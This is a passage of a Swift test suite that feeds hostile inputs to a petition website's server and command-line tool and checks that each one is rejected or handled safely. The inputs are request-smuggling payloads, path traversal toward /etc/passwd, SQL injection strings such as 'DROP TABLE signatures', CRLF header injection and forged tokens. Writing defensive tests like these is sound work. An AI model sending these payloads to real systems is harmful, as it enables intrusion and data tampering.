        Case("invalid UTF-8 and NUL in a query", .get("/c/\(E2E.tacoma)?name=%FF%FE&zip=%C3%28&district=%00"),
             Expectation(status: 200, never: ["\u{FFFD}", "\u{0}"], then: [.language("en")])),
        Case("invalid UTF-8 in a path", .get("/c/%FF%FE"), Expectation(status: 404, messages: ["error.not_found"])),
        Case("raw invalid UTF-8 in the Cookie and Accept-Language headers",
             .wire(bytes("GET /c/\(E2E.seattle) HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: sid=") + [UInt8](repeating: 0xFF, count: 20)
                   + bytes("; lang=") + [0xC3, 0x28] + bytes("\r\nAccept-Language: ") + [0xFE, 0xFF] + bytes("\r\nConnection: close\r\n\r\n")),
             Expectation(status: 200, then: [.language("en")])),
        Case("a raw invalid byte in the request line", .wire(bytes("GET /c/") + [0xFF, 0xFE] + bytes(" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")),
             Expectation(status: 404)),
    ]

    /// Fields, URLs and headers longer than anyone types.
    static let sizes: [Case] = [
        Case("a 201-character name", .sign(E2E.dc, Signer(name: String(repeating: "n", count: 201), zip: "20001")),
             Expectation(status: 422, fieldErrors: ["name": "error.name.long"], then: [.noMail])),
        Case("a 1,001-character reason", .sign(E2E.dc, Signer(zip: "20001", reason: String(repeating: "r", count: 1001))),
             Expectation(status: 422, fieldErrors: ["reason": "error.reason.long"])),
        Case("a 300-character e-mail address", .sign(E2E.dc, Signer(email: String(repeating: "e", count: 290) + "@example.org", zip: "20001")),
             Expectation(status: 422, fieldErrors: ["email": "error.email.invalid"])),
        Case("a field over 4 KiB", .post(sign, body: bytes("csrf={csrf}&email=big@example.org&zip=98104&name=" + String(repeating: "n", count: 5000))),
             Expectation(status: 400, messages: ["error.form"])),
        Case("65 fields", .post(sign, body: bytes("csrf={csrf}&email=many@example.org&zip=98104&name=Ana" + (0..<62).map { "&f\($0)=x" }.joined())),
             Expectation(status: 400, messages: ["error.form"])),
        Case("a body over 16 KiB", .post(sign, body: bytes("csrf={csrf}&email=huge@example.org&zip=98104&name=" + String(repeating: "n", count: 17_000))),
             Expectation(status: 413)),
        Case("a 100 KB request line", .wire(bytes("GET /" + String(repeating: "a", count: 100_000) + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")),
             Expectation(status: 414)),
        Case("a 70 KB header", .get("/healthz", headers: [("X-Big", String(repeating: "a", count: 70_000))]), Expectation(status: 431)),
        Case("a 4 KB query value", .get("/c/\(E2E.tacoma)?lang=en&name=" + String(repeating: "q", count: 5000)),
             Expectation(status: 200, never: [String(repeating: "q", count: 5000)])),
    ]

    /// Numbers too big, too small or not numbers.
    static let numbers: [Case] = [
        Case("a page number past 2^64", .get("/c/\(E2E.seattle)/reasons?lang=en&page=999999999999999999999"), Expectation(status: 200, then: [.language("en")])),
        Case("the largest page number", .get("/c/\(E2E.seattle)/reasons?lang=en&page=9223372036854775807"), Expectation(status: 200)),
        Case("a negative page number", .get("/c/\(E2E.seattle)/reasons?lang=en&page=-9223372036854775808"), Expectation(status: 200)),
        Case("a 20-digit ZIP code", .sign(E2E.dc, Signer(zip: "99999999999999999999")), Expectation(status: 422, fieldErrors: ["zip": "error.zip.invalid"])),
        Case("a 20-digit district", .get("/c/\(E2E.tacoma)?lang=en&zip=98405&district=99999999999999999999"), Expectation(status: 200)),
        Case("NaN coordinates", .get("/c/\(E2E.tacoma)?lang=en&at=nan,nan"), Expectation(status: 200, messages: ["error.location.invalid"])),
        Case("infinite coordinates", .get("/c/\(E2E.tacoma)?lang=en&at=inf,-inf"), Expectation(status: 200, messages: ["error.location.invalid"])),
        Case("a Content-Length past 2^64", .wire(bytes(signHead + "Content-Length: 99999999999999999999\r\n\r\nname=x")),
             Expectation(status: 413, then: [.connectionClosed])),
        Case("a Content-Length past 2^63", .wire(bytes(signHead + "Content-Length: 9999999999999999999\r\n\r\nname=x")),
             Expectation(status: 413, then: [.connectionClosed])),
        Case("the largest 64-bit Content-Length", .wire(bytes(signHead + "Content-Length: 18446744073709551615\r\n\r\nname=x")),
             Expectation(status: 413, then: [.connectionClosed])),
        Case("a negative Content-Length", .wire(bytes(signHead + "Content-Length: -1\r\n\r\nname=x")), Expectation(status: 400, then: [.connectionClosed])),
        Case("a Content-Length in exponent form", .wire(bytes(signHead + "Content-Length: 1e3\r\n\r\nname=x")), Expectation(status: 400, then: [.connectionClosed])),
    ]

    /// Requests a proxy in front could frame differently from the server: a second request smuggled in the body.
    static let framing: [Case] = [
        Case("two different Content-Lengths", .wire(bytes(signHead + "Content-Length: 6\r\nContent-Length: 47\r\n\r\nname=xGET /smuggled-1 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")),
             Expectation(status: 400, then: [.connectionClosed, .answers(1), .neverLogged("/smuggled-1")])),
        Case("a Content-Length list", .wire(bytes(signHead + "Content-Length: 6, 47\r\n\r\nname=xGET /smuggled-2 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")),
             Expectation(status: 400, then: [.connectionClosed, .answers(1), .neverLogged("/smuggled-2")])),
        Case("Content-Length beside chunked", .wire(bytes(signHead + "Content-Length: 47\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled-3 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")),
             Expectation(status: 400, then: [.connectionClosed, .answers(1), .neverLogged("/smuggled-3")])),
        Case("an unknown transfer coding", .wire(bytes(signHead + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /smuggled-4 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")),
             Expectation(status: 501, then: [.connectionClosed, .answers(1), .neverLogged("/smuggled-4")])),
        Case("an HTTP version that does not exist", .wire(bytes("GET /healthz HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n")), Expectation(status: 505)),
        Case("a header line without a colon", .wire(bytes("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nNoColonHere\r\n\r\n")), Expectation(status: 400)),
        Case("a TLS handshake sent to the plain port", .wire([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03] + [UInt8](repeating: 0, count: 32) + bytes("\r\n\r\n")),
             Expectation(status: 0)),
    ]

    /// Paths that try to leave `templates/static`, and a CLI slug that tries to leave its folder.
    static let traversal: [Case] = [
        Case("../ in a static path", .get("/static/../../etc/passwd"), Expectation(status: 404, never: ["root:x:0:0"])),
        Case("encoded ../ in a static path", .get("/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd"), Expectation(status: 404, never: ["root:x:0:0"])),
        Case("double-encoded ../ in a static path", .get("/static/%252e%252e%252f%252e%252e%252fPackage.swift"), Expectation(status: 404, never: ["PackageDescription"])),
        Case("overlong UTF-8 ../ in a static path", .get("/static/%c0%ae%c0%ae%c0%afPackage.swift"), Expectation(status: 404, never: ["PackageDescription"])),
        Case("an encoded backslash in a static path", .get("/static/..%5c..%5cPackage.swift"), Expectation(status: 404, never: ["PackageDescription"])),
        Case("campaign new with ../ in the slug", .cli(["new", "../escaped", "--in", "{inner}"]),
             Expectation(status: 64, shows: ["Invalid slug '../escaped'"], then: [.nothingWritten])),
        Case("campaign new with an absolute path for a slug", .cli(["new", "{root}/escaped", "--in", "{inner}"]),
             Expectation(status: 64, shows: ["Invalid slug '/"], then: [.nothingWritten])),
    ]

    static let drop = "'; DROP TABLE signatures; --"

    /// SQL metacharacters in every field, in slugs and tokens, through the server and the CLI.
    static let sql: [Case] = [
        Case("SQL in every sign field", .sign(E2E.seattle, Signer(name: "Robert'); DROP TABLE signatures; --", email: "o'hara+'--@example.org", reason: "' OR '1'='1")),
             Expectation(status: 303, stored: 1, then: [.storedVerbatim])),
        Case("SQL in a campaign slug", .get("/c/" + HTTPTestClient.percentEncode(drop)), Expectation(status: 404, messages: ["error.not_found"])),
        Case("SQL in a signing slug", .post("/c/" + HTTPTestClient.percentEncode(drop) + "/sign", body: bytes("csrf={csrf}&name=Ana&email=sql@example.org&zip=98104")),
             Expectation(status: 404)),
        Case("SQL in an API slug", .get("/api/v1/campaigns/" + HTTPTestClient.percentEncode("' OR '1'='1")), Expectation(status: 404, shows: ["\"error\": \"not found\""])),
        Case("SQL in a confirmation token", .confirmation(.forged("' OR '1'='1' -- padding")), Expectation(status: 404, messages: ["confirm.unknown"])),
        Case("SQL in an unsubscribe link", .get("/unsubscribe?token=" + HTTPTestClient.percentEncode("' OR 1=1; --")),
             Expectation(status: 404, messages: ["unsubscribe.unknown"], never: ["' OR 1=1", "unsubscribe?token="])),
        Case("SQL in an unsubscribe token", .post("/unsubscribe?token=" + HTTPTestClient.percentEncode("' OR 1=1; --"), body: []),
             Expectation(status: 404, messages: ["unsubscribe.unknown"])),
        Case("SQL in a ZIP code", .get("/c/\(E2E.tacoma)?lang=en&zip=" + HTTPTestClient.percentEncode("' OR 1=1 --")), Expectation(status: 200, messages: ["error.zip.invalid"])),
        Case("SQL in an admin slug and token", .get("/admin/campaigns/" + HTTPTestClient.percentEncode(drop) + "/export?all=1", headers: [("Authorization", "Bearer ' OR '1'='1")]),
             Expectation(status: 401)),
        Case("SQL in the CLI's export slug", .cli(["export", drop, "--all", "--out", "{out}"]),
             Expectation(status: 65, shows: ["'\(drop)'"], then: [.nothingWritten])),
        Case("SQL in the CLI's export official", .cli(["export", E2E.seattle, "--official", "' OR '1'='1", "--out", "{out}"]),
             Expectation(status: 65, shows: ["' OR '1'='1"], then: [.nothingWritten])),
    ]

    /// Unknown, malformed and hostile language choices.
    static let languages: [Case] = [
        Case("an unknown ?lang", .get("/c/\(E2E.seattle)?lang=xx"), Expectation(status: 200, then: [.language("en")])),
        Case("a path in ?lang", .get("/c/\(E2E.seattle)?lang=../../etc/passwd"), Expectation(status: 200, then: [.language("en")])),
        Case("CRLF and a header in ?lang", .get("/c/\(E2E.seattle)?lang=en%0D%0ASet-Cookie:%20injected=1"),
             Expectation(status: 200, never: ["injected"], then: [.language("en")])),
        Case("a malformed Accept-Language", .get("/c/\(E2E.seattle)", headers: [("Accept-Language", "*;q=abc, ,,,")]), Expectation(status: 200, then: [.language("en")])),
        Case("an Accept-Language with odd weights", .get("/c/\(E2E.seattle)", headers: [("Accept-Language", "es;q=0.5;q=1, zz;q=1e999, en;q=-1")]),
             Expectation(status: 200, then: [.language("es")])),
        Case("an 8 KB Accept-Language", .get("/c/\(E2E.seattle)", headers: [("Accept-Language", Array(repeating: "xx-YY;q=0.1", count: 700).joined(separator: ","))]),
             Expectation(status: 200, then: [.language("en")])),
        Case("a path in the language cookie", .get("/c/\(E2E.seattle)", headers: [("Cookie", "lang=../../etc/passwd")]), Expectation(status: 200, then: [.language("en")])),
    ]

    /// CSRF tokens that are not this session's.
    static let forgedTokens: [Case] = [
        Case("a forged CSRF token", .sign(E2E.dc, Signer(zip: "20001"), token: .forged),
             Expectation(status: 403, messages: ["error.csrf"], then: [.noMail])),
        Case("a CSRF token from another session", .sign(E2E.dc, Signer(zip: "20001"), token: .otherSession),
             Expectation(status: 403, messages: ["error.csrf"], then: [.noMail])),
        Case("no CSRF token", .sign(E2E.seattle, Signer(), token: .missing), Expectation(status: 403, messages: ["error.csrf"])),
    ]

    /// Confirmation links used twice, elsewhere, or made up.
    static let confirmations: [Case] = [
        // Mail scanners open links before their readers: the link that
        // confirmed answers that the signature is confirmed, and counts once.
        Case("a replayed confirmation link", .confirmation(.replayed),
             Expectation(status: 200, messages: ["confirm.already"], stored: 1, then: [.countedOnce])),
        Case("a confirmation token for another campaign", .confirmation(.otherCampaign),
             Expectation(status: 404, messages: ["confirm.unknown"], stored: 1, then: [.stillPending])),
        Case("a made-up confirmation token", .confirmation(.forged("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")), Expectation(status: 404, messages: ["confirm.unknown"])),
        Case("a made-up link of the current shape", .confirmation(.forged("0190abcdef12.AAAAAAAAAAAAAAAAAAAAAA~BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB")),
             Expectation(status: 404, messages: ["confirm.unknown"])),
        Case("a link with nothing after its tilde", .confirmation(.forged("0190abcdef12.AAAAAAAAAAAAAAAAAAAAAA~")), Expectation(status: 404, messages: ["confirm.unknown"])),
        Case("a 10,000-character confirmation token", .confirmation(.forged(String(repeating: "a", count: 10_000))),
             Expectation(status: 404, messages: ["confirm.unknown"])),
    ]
}
